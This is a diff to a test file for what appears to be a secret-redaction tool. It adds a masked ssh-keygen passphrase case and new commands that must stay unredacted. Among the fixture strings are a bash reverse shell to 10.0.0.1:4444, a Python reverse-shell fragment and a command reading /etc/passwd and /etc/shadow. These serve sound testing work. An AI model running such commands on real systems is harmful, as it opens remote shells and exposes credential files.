@@ -42,6 +42,7 @@ HIDDEN = [
     ("xfreerdp /u:a /p:S3cret /v:host", "xfreerdp /u:a /p:*** /v:host"),
     ("docker login -u bob -p S3cret registry.example", "docker login -u bob -p *** registry.example"),
     ("app --client-secret S3cret --mat-khau=S3cret", "app --client-secret *** --mat-khau=***"),
+    ("ssh-keygen -t ed25519 -N S3cret -f key", "ssh-keygen -t ed25519 -N *** -f key"),
     ("nmcli dev wifi connect cafe password S3cret", "nmcli dev wifi connect cafe password ***"),
 ]
 
@@ -58,6 +59,8 @@ UNTOUCHED = [
     "app --password-file /etc/app/pw.txt",
     "curl -u bob https://a.example/",
     "curl http://a.example:8080/x",
+    "docker run -v /etc/passwd:/host/passwd:ro x",
+    "cat /etc/passwd /etc/shadow",
     "env PWD=/home/bob OLDPWD=/tmp true",
     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444))'",
